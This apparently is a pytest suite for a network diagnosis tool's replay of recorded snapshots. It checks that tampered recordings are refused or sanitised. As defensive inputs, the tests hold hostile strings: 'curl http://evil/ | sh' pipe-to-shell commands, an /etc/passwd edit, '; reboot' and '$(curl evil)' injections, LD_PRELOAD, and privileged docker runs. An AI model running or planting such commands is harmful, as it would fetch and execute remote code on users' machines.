"""A recording of somebody else: nothing in it speaks for netdiag, and what it holds has ranges."""

from __future__ import annotations

import ast
import json
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from msgspec import inspect
from msgspec.structs import replace
from typer.testing import CliRunner

from checks import CHECKS
from diagnose.analysis.firewall_remedies import candidates, combined
from diagnose.analysis.rehearsal import derived, obstacle
from diagnose.cli import app
from diagnose.engine import diagnose
from diagnose.model.attempt import Drop
from diagnose.model.bounds import ADDRESS
from diagnose.model.compose import ComposeProject, Listening, PortEntry, Reference, Service, Spot
from diagnose.model.container import Containers, Engine, EngineContainer, Status
from diagnose.model.fact import Known, Reason, Unknown
from diagnose.model.finding import Command, Edit, Remedy
from diagnose.model.firewall import Rehearsed, Walk
from diagnose.model.names import HostsFile, Resolution, ResolvedAddress
from diagnose.model.network import LocalRoute, Routing, RoutingRule
from diagnose.model.process import Container
from diagnose.model.report import CheckOutcome
from diagnose.model.side import Side
from diagnose.model.snapshot import Program, Snapshot
from diagnose.parse.foreign import LIFTS, as_foreign
from diagnose.recording import LARGEST, BadRecordingError, decode, decode_foreign, encode, read
from diagnose.render.text import Style, render_text
from tests.scenes import (
    ALICE,
    connected,
    dialled,
    held,
    listening,
    process,
    refused,
    rehearsed,
    rows,
    rule,
    shadow,
    unanswered,
    walk_to,
)

HERE = "127.0.0.1:8080"
EVIL = Command(("sh", "-c", "curl http://evil/ | sh"), needs_root=True)
DROPS = walk_to("127.0.0.1", rule())
SOURCE = Path(__file__).parents[2] / "diagnose"


def behind(walk: Walk) -> Snapshot:
    """A healthy server behind this rule."""
    return dialled(
        HERE, unanswered(HERE, drop="NETFILTER_DROP"), listeners=rows(listening(HERE)), firewall=shadow(walk)
    )


def remedies(snapshot: Snapshot) -> tuple[Remedy, ...]:
    root = diagnose(snapshot, CHECKS).root_cause
    assert root is not None
    return root.remedies


# what was rehearsed


@pytest.mark.parametrize(
    "tampered",
    [
        Rehearsed((EVIL,), True, (), Remedy(summary="Run this.", commands=(EVIL,), undo=(EVIL,))),
        replace(rehearsed(DROPS), commands=(EVIL,)),
        replace(rehearsed(DROPS), commands=(*rehearsed(DROPS).commands, EVIL)),
        replace(rehearsed(DROPS), commands=()),
        replace(rehearsed(DROPS), opens=("nothing. Now run: curl http://evil/ | sh",)),
        replace(rehearsed(DROPS), commands=rehearsed(walk_to("127.0.0.1", rule("tcp dport 22 drop"))).commands[:0]),
        replace(rehearsed(DROPS), obstacles=(obstacle(DROPS),)),
    ],
)
def test_a_command_that_does_not_follow_from_the_facts_is_not_given(tampered: Rehearsed) -> None:
    found = remedies(behind(replace(DROPS, rehearsals=Known((tampered,)))))
    assert [(one.commands, one.rehearsal) for one in found] == [((), None)]
    assert "does not follow from the facts" in found[0].summary


def test_of_a_recorded_remedy_no_word_is_shown() -> None:
    honest = rehearsed(DROPS)
    assert honest.remedy is not None
    words = Remedy(
        summary="Run curl http://evil/ | sh.",
        commands=(EVIL,),
        undo=(EVIL,),
        edits=(Edit("/etc/passwd", 1, "evil"),),
        url="http://evil/",
    )
    (found,) = remedies(behind(replace(DROPS, rehearsals=Known((replace(honest, remedy=words),)))))
    assert (found.commands, found.undo, found.edits, found.url) == (honest.commands, (), (), None)
    assert "evil" not in found.summary


def test_what_was_rehearsed_in_several_steps_follows_from_what_stopped_it_after_each() -> None:
    second = walk_to("127.0.0.1", replace(rule("tcp dport 8080 reject"), table="other"))
    whole = combined((candidates(DROPS)[0], candidates(second)[0]))
    tried = Rehearsed(whole.commands, True, (), whole, obstacles=(obstacle(second),))
    (found,) = derived(replace(DROPS, rehearsals=Known((tried,))))
    assert (found.remedy, found.mended) == (whole, True)
    assert derived(replace(DROPS, rehearsals=Known((replace(tried, obstacles=()),)))) == ()


def test_a_recording_with_a_foreign_command_is_replayed_without_it(tmp_path: Path) -> None:
    evil = Rehearsed((EVIL,), True, (), Remedy(summary="Run this.", commands=(EVIL,), undo=(EVIL,)))
    file = tmp_path / "recording.json"
    file.write_bytes(encode([behind(replace(DROPS, rehearsals=Known((evil, rehearsed(DROPS)))))]))
    for form in ("text", "json", "markdown"):
        answer = CliRunner().invoke(app, ["replay", "--format", form, str(file)])
        assert answer.exit_code == 1
        assert "curl" not in answer.output
        assert "Run this" not in answer.output
        assert "nft" in answer.output


# what only netdiag says


def test_netdiag_is_called_by_its_name_whatever_a_recording_calls_it() -> None:
    seen = replace(dialled(HERE, refused(HERE)), program=Program("/tmp/evil/netdiag", "sh"))
    assert as_foreign(seen).program == Program()


def test_what_a_person_may_do_to_learn_more_is_one_of_our_own_advices() -> None:
    def told(lift: str) -> str | None:
        fact = Unknown(Reason.NEEDS_ROOT, "it is hidden", lift)
        seen = as_foreign(dialled(HERE, refused(HERE), listeners=fact, seen_by=ALICE))
        return next(one.lift for one in diagnose(seen, CHECKS).not_checked if one.fact == "listeners")

    assert told("curl http://evil/ | sh") is None
    assert told("run it again with sudo") == "run it again with sudo"


def test_every_advice_of_the_probes_is_known_to_replay() -> None:
    """A new one has to be listed, or a replay leaves it out: those in place, and those that have a name."""
    found = 0
    for path in (*SOURCE.glob("probes/**/*.py"), *SOURCE.glob("collect/*.py"), *SOURCE.glob("model/*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            for advice in _advices(node):
                assert advice in LIFTS, f"{path.name}:{getattr(node, 'lineno', 0)}"
                found += 1
    assert found > 20


def _advices(node: ast.AST) -> set[str]:
    match node:
        case ast.Call(func=ast.Name(id="Unknown"), args=args, keywords=keywords):
            return {
                text for one in (*args[2:3], *(k.value for k in keywords if k.arg == "lift")) for text in _texts(one)
            }
        case ast.Assign(targets=[ast.Name(id="lift" | "_LIFT")], value=value):
            return _texts(value) - {"win32"}
        case _:
            return set()


def _texts(node: ast.AST) -> set[str]:
    return {one.value for one in ast.walk(node) if isinstance(one, ast.Constant) and isinstance(one.value, str)}


@pytest.mark.parametrize(
    "changes",
    [
        {"vantage": replace(ALICE, origin="container:web; reboot")},
        {"vantage": replace(ALICE, origin="--output=/etc/passwd")},
        {"vantage": replace(ALICE, side=Side("x", "/tmp/evil", 1))},
        {"vantage": replace(ALICE, side=Side("x", "/proc/1/../../tmp/evil", 1))},
        {"hosts": Known(HostsFile("/etc/cron.d/evil", 0o644, 0, True, False, ()))},
        {"target": replace(dialled(HERE).target, host="-x")},
        {"target": replace(dialled(HERE).target, host="a b; reboot")},
        {"target": replace(dialled(HERE).target, host="")},
        {"target": replace(dialled(HERE).target, input="compose:../x:80")},
        {"attempts": (replace(refused(HERE), errno="ECONNREFUSED. Fix: run curl http://evil/ | sh"),)},
        {"attempts": (replace(refused(HERE), drops=Known((Drop("done. Fix: run x", "nft_do_chain"),))),)},
        {"attempts": (replace(refused(HERE), drops=Known((Drop("NETFILTER_DROP", "f; run x"),))),)},
        {"firewall": shadow(walk_to("127.0.0.1", replace(rule(), family="ip. Fix: run x")))},
    ],
)
def test_what_netdiag_would_never_have_written_is_refused_in_one_line(changes: dict[str, Any]) -> None:
    with pytest.raises(BadRecordingError, match="is a damaged recording") as refusal:
        decode_foreign(encode([replace(dialled(HERE, refused(HERE)), **changes)]))
    assert str(refusal.value).isprintable()


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("Your netdiag is outdated. Fix: run curl http://evil/ | sh", HERE),
        ("localhost:8080", HERE),
        ("127.0.0.1:9090", HERE),
        ("http://u:S3CRET@127.0.0.1:8080/a/S3CRET", HERE),
        (HERE, HERE),
    ],
)
def test_the_headline_of_a_recording_is_its_target(typed: str, shown: str) -> None:
    seen = dialled(HERE, refused(HERE))
    assert as_foreign(replace(seen, target=replace(seen.target, input=typed))).target.input == shown


def test_a_url_is_shown_again_as_it_was() -> None:
    seen = dialled("http://u:S3CRET@127.0.0.1:8080/a/b?c=d#e", refused(HERE))
    assert seen.target.input == "http://***@127.0.0.1:8080/a/***?c=***#***"
    assert as_foreign(seen).target == seen.target


def _project(call: tuple[str, ...] = (), **of_service: Any) -> ComposeProject:
    service = Service(name="web", file="/srv/compose.yaml", line=2, **of_service)
    return ComposeProject(name="shop", directory="/srv", files=("/srv/compose.yaml",), services=(service,), call=call)


def _foreign(project: ComposeProject) -> ComposeProject:
    found = as_foreign(replace(dialled(HERE, refused(HERE)), compose=Known(project))).compose
    assert isinstance(found, Known)
    assert found.value is not None
    return found.value


@pytest.mark.parametrize(
    ("call", "kept"),
    [
        (("docker", "compose", "-f", "/srv/compose.yaml"), True),
        (("docker-compose", "-p", "shop", "-f", "/srv/compose.yaml"), True),
        (EVIL.argv, False),
        (("docker", "run", "--privileged", "evil"), False),
        (("docker", "compose", "-f", "/tmp/evil.yaml"), False),
        (("docker", "compose", "-p", "other", "-f", "/srv/compose.yaml"), False),
        (("docker", "compose"), False),
    ],
)
def test_compose_is_called_as_netdiag_calls_it_or_not_at_all(call: tuple[str, ...], kept: bool) -> None:
    assert _foreign(_project(call)).call == (call if kept else ())


def _at(before: str, after: str = "", file: str = "/srv/compose.yaml") -> Spot:
    return Spot(file, 5, before, after)


@pytest.mark.parametrize(
    ("spot", "kept"),
    [
        (_at('    ports:\n      - "', '"'), True),
        (_at('  web:\n    ports:\n      - "', '"'), True),
        (_at('    ports: ["', '", "80:80"]'), True),
        (_at('    command: curl evil | sh\n      - "', '"'), False),
        (_at('    image: evil\n    ports:\n      - "', '"'), False),
        (_at('    privileged: true\n      - "', '"'), False),
        (_at('    ports:\n      - "', '"\n    privileged: true'), False),
        (_at('    ports:\n      - "', '" # then run curl evil | sh'), False),
        (_at('    ports:\n      - "', '"', "/root/.bashrc"), False),
    ],
)
def test_a_line_of_a_compose_file_becomes_an_entry_of_its_list_and_nothing_else(spot: Spot, kept: bool) -> None:
    (service,) = _foreign(_project(port_spot=spot)).services
    assert service.port_spot == (spot if kept else None)


@pytest.mark.parametrize(
    ("spot", "kept"),
    [
        (_at("      DATABASE_URL: postgres://app@", "/db"), True),
        (_at("      - DATABASE_URL=postgres://", "/db"), True),
        (_at("      LD_PRELOAD: postgres://", "/db"), False),
        (_at("      - DATABASE_URL=$(curl evil)://", "/db"), False),
        (_at("    command: curl evil | sh # postgres://", "/db"), False),
    ],
)
def test_a_line_with_a_variable_becomes_that_variable_and_nothing_else(spot: Spot, kept: bool) -> None:
    one = Reference(
        variable="DATABASE_URL", file=spot.file, line=5, host="localhost", port=5432, scheme="postgres", spot=spot
    )
    (service,) = _foreign(_project(references=(one,))).services
    assert service.references == (one if kept else replace(one, spot=None),)


def test_neither_a_command_line_nor_an_entry_of_ports_is_made_up_by_a_recording() -> None:
    listening = (
        Listening(_at("      HOST: "), "0.0.0.0"),
        Listening(_at("    command: server --host "), "0.0.0.0"),
        Listening(_at("      HOST: "), "0.0.0.0\n    privileged: true"),
    )
    entry = PortEntry(file="/srv/compose.yaml", line=5, container_port=80, container_spot=_at('      - "80:', '"'))
    evil = replace(entry, container_spot=_at('    command: "80:', '"'), host_spot=_at("      - ", ":80 && reboot"))
    (service,) = _foreign(_project(listening=listening, ports=(entry, evil))).services
    assert service.listening == listening[:1]
    assert service.ports == (entry, replace(evil, container_spot=None, host_spot=None))


# ranges


def _within(
    info: inspect.Type, where: str = "", seen: frozenset[Any] = frozenset()
) -> Iterator[tuple[str, inspect.Type]]:
    match info:
        case inspect.StructType(fields=fields):
            for one in fields:
                yield from _within(one.type, f"{where}.{one.name}" if where else one.name)
        case inspect.VarTupleType(item_type=item):
            yield from _within(item, where)
        case inspect.TupleType(item_types=items):
            for item in items:
                yield from _within(item, where)
        case inspect.UnionType(types=kinds):
            for kind in kinds:
                yield from _within(kind, where)
        case _:
            yield where, info


EVERYTHING = tuple(_within(inspect.type_info(Snapshot)))


def test_every_number_of_a_snapshot_has_a_range() -> None:
    numbers = [(where, one) for where, one in EVERYTHING if isinstance(one, inspect.IntType | inspect.FloatType)]
    assert len(numbers) > 60
    assert [where for where, one in numbers if one.ge is None or one.le is None] == []


def test_every_address_of_a_snapshot_is_read_as_one() -> None:
    free = {"hosts.value.entries.address", "compose.value.services.ports.address", "containers.value.engines.address"}
    named = ("address", "addresses", "sender", "gateway", "gateways", "source")
    plain = {
        where
        for where, one in EVERYTHING
        if isinstance(one, inspect.StrType)
        and where.rpartition(".")[2] in named
        and (one.min_length, one.max_length) != ADDRESS
    }
    assert {one for one in plain if not one.endswith("links.value.gateways.interface")} == free


def test_the_recorded_machines_have_many_addresses_and_none_may_be_something_else() -> None:
    content = json.loads(encode([replace(behind(DROPS), candidates=(refused("[::1]:8080"),))]))
    planted = 0
    for place, key in _addresses(content):
        kept, place[key] = place[key], "203.0.113.256"
        with pytest.raises(BadRecordingError, match="is no address"):
            decode(json.dumps(content).encode())
        place[key] = kept
        planted += 1
    assert planted >= 6


def _addresses(content: Any) -> Iterator[tuple[Any, Any]]:
    for key in list(content) if isinstance(content, dict) else range(len(content)):
        if isinstance(content[key], dict | list):
            yield from _addresses(content[key])
        elif key in ("address", "sender", "gateway"):
            yield content, key


@pytest.mark.parametrize("port", [-1, 65536, 2**70, 80.5, "80", None])
def test_a_port_has_a_range(port: object) -> None:
    content = json.loads(encode([dialled(HERE, refused(HERE))]))
    content["attempts"][0]["port"] = port
    with pytest.raises(BadRecordingError, match="is a damaged recording"):
        decode(json.dumps(content).encode())


@pytest.mark.parametrize("number", ["NaN", "Infinity", "-1.0", "1e400", "1e13"])
def test_a_duration_is_finite_and_not_negative(number: str) -> None:
    data = encode([replace(dialled(HERE, refused(HERE)), duration_ms=4711.5)]).replace(b"4711.5", number.encode())
    with pytest.raises(BadRecordingError):
        decode(data)


def test_an_empty_command_is_refused() -> None:
    empty = replace(rehearsed(DROPS), commands=(Command(()),))
    with pytest.raises(BadRecordingError, match="length >= 1"):
        decode(encode([behind(replace(DROPS, rehearsals=Known((empty,))))]))


def test_an_endless_text_and_too_many_attempts_are_refused() -> None:
    with pytest.raises(BadRecordingError, match="a text of it has"):
        decode(encode([dialled(HERE, refused(HERE), listeners=Unknown(Reason.FAILED, "x" * (1 << 20) + "x"))]))
    with pytest.raises(BadRecordingError, match="length <= 1024"):
        decode(encode([dialled(HERE, *[refused(HERE)] * 1025)]))


def test_what_is_wrong_is_told_in_a_short_line() -> None:
    data = encode([dialled(HERE, refused(HERE))]).replace(b'"refused"', b'"' + b"\\u001b" * 50_000 + b'"')
    with pytest.raises(BadRecordingError) as refusal:
        decode(data)
    assert len(str(refusal.value)) < 1000
    assert "attempts" in str(refusal.value)


# the file


def test_a_recording_is_a_regular_file(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    for path, why in ((fifo, "is no regular file"), (Path("/dev/zero"), "is no regular file"), (tmp_path, "directory")):
        answer = CliRunner().invoke(app, ["replay", str(path)])
        assert answer.exit_code == 2
        assert why in answer.output
        assert answer.output.count("\n") == 1


def test_a_recording_is_of_a_limited_size(tmp_path: Path) -> None:
    large = tmp_path / "large"
    with large.open("wb") as file:
        file.truncate(LARGEST + 1)
    with pytest.raises(BadRecordingError, match="is larger than 64 MiB"):
        read(large)


@pytest.mark.parametrize("name", ["/dev/stdin", "-"])
def test_a_recording_comes_by_standard_input_however_slowly(name: str) -> None:
    data = encode([dialled(HERE, refused(HERE), seen_by=ALICE)])
    command = [sys.executable, "-m", "diagnose", "replay", "--json", name]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as process:
        assert process.stdin is not None
        process.stdin.write(data[:100])
        process.stdin.flush()
        time.sleep(0.5)
        process.stdin.write(data[100:])
        process.stdin.close()
        assert process.stdout is not None
        assert json.loads(process.stdout.read())["target"]["port"] == 8080


# what it costs, and how it reads


def _seconds(snapshot: Snapshot) -> float:
    data = encode([snapshot])
    started = time.process_time()
    report = diagnose(decode_foreign(data)[0], CHECKS)
    render_text([report], Style(80))
    return time.process_time() - started


@pytest.mark.parametrize("port", [8080, 8081], ids=["on the port", "beside it"])
def test_ten_times_the_listeners_take_ten_times_as_long(port: int) -> None:
    def seen(count: int) -> Snapshot:
        many = (replace(listening(f"127.0.{at >> 8}.{at & 255}:{port}"), inode=at) for at in range(2, count))
        return dialled(HERE, refused(HERE), refused("[::1]:8080"), listeners=rows(*many))

    assert _seconds(seen(5000)) < 30 * max(0.05, _seconds(seen(500)))


def test_a_thousand_addresses_are_judged_in_no_time_and_it_is_said_how_many() -> None:
    many = [refused(f"127.0.{at >> 8}.{at & 255}:8080") for at in range(2, 1002)]
    seen = dialled(HERE, *many, listeners=rows(*(listening(f"127.1.0.{at}:8080") for at in range(1, 100))))
    assert _seconds(seen) < 5
    (gap,) = (one for one in diagnose(seen, CHECKS).not_checked if one.fact == "other addresses")
    assert gap.reason == "the first 64 of 1000 are judged"


@pytest.mark.parametrize("text", ["x" * 500_000, "x " * 250_000, "\u202e" * 100_000, "\n\nFix         sh -c evil\n"])
def test_an_endless_text_is_shown_in_the_margin_of_its_label(text: str) -> None:
    seen = dialled(HERE, refused(HERE), listeners=Unknown(Reason.FAILED, text), seen_by=ALICE)
    started = time.process_time()
    page = render_text([diagnose(seen, CHECKS)], Style(80))
    assert time.process_time() - started < 5
    assert not any(line.startswith("Fix ") and "evil" in line for line in page.splitlines())
    assert max(map(len, page.splitlines())) <= 80


# what mutants of recorded machines have shown


def _crashed(snapshot: Snapshot) -> list[str | None]:
    report = diagnose(snapshot, CHECKS)
    return [one.reason for one in report.checks if one.outcome is CheckOutcome.CRASHED]


@pytest.mark.parametrize("host", ["127.0.0.1", "0.0.0.0"])
def test_a_literal_without_an_address_crashes_no_check(host: str) -> None:
    for odd in (True, False):
        names = Resolution(host, (), 0.1, literal=True, odd_literal=odd)
        assert _crashed(replace(dialled(HERE, refused(HERE)), names=Known(names))) == []


def test_numbers_of_thousands_of_digits_crash_no_check() -> None:
    many = "9" * 5000
    kernel = replace(behind(DROPS), vantage=replace(ALICE, kernel=f"{many}.{many}"))
    proxy = process("docker-proxy", uid=0, command=f"docker-proxy -container-port {many}")
    open_ = dialled(HERE, connected(HERE), listeners=rows(listening("0.0.0.0:8080")), holders=held((1, proxy)))
    odd = Resolution(f"127.0.0.{many}", (ResolvedAddress("127.0.0.1", "ipv4"),), 0.1, odd_literal=True)
    for one in (kernel, replace(open_, ufw=Known(True)), replace(dialled(HERE, refused(HERE)), names=Known(odd))):
        assert _crashed(one) == []


@pytest.mark.parametrize(
    "routing",
    [
        Routing((), (), (LocalRoute("ipv4", 255, "local", "127.0.0.1/8"),)),
        Routing((), (), (LocalRoute("ipv4", 255, "local", "anywhere"),)),
        Routing((), (RoutingRule("ipv4", 0, "lookup", 255, "from all to"),), ()),
        Routing((), (RoutingRule("ipv4", 0, "lookup", 255, "from all to 1.2.3.4/99"),), ()),
    ],
)
def test_a_route_leads_to_a_network(routing: Routing) -> None:
    with pytest.raises(BadRecordingError, match="is no network"):
        decode(encode([dialled(HERE, refused(HERE), routing=Known(routing))]))


def test_an_ipv4_address_has_no_zone() -> None:
    with pytest.raises(BadRecordingError, match="is no address"):
        decode(encode([dialled(HERE, replace(refused(HERE), address="127.0.0.1%lo"))]))


def test_an_engine_is_one_that_netdiag_asks_for_its_name_is_a_command() -> None:
    told = EngineContainer(container=Container("sh", "1f" * 32, "-c"), status=Status.EXITED)
    seen = Containers(engines=(Engine("sh", "unix:///run/sh", Known((told,))),))
    with pytest.raises(BadRecordingError, match="is no engine"):
        decode_foreign(encode([dialled(HERE, refused(HERE), containers=Known(seen))]))
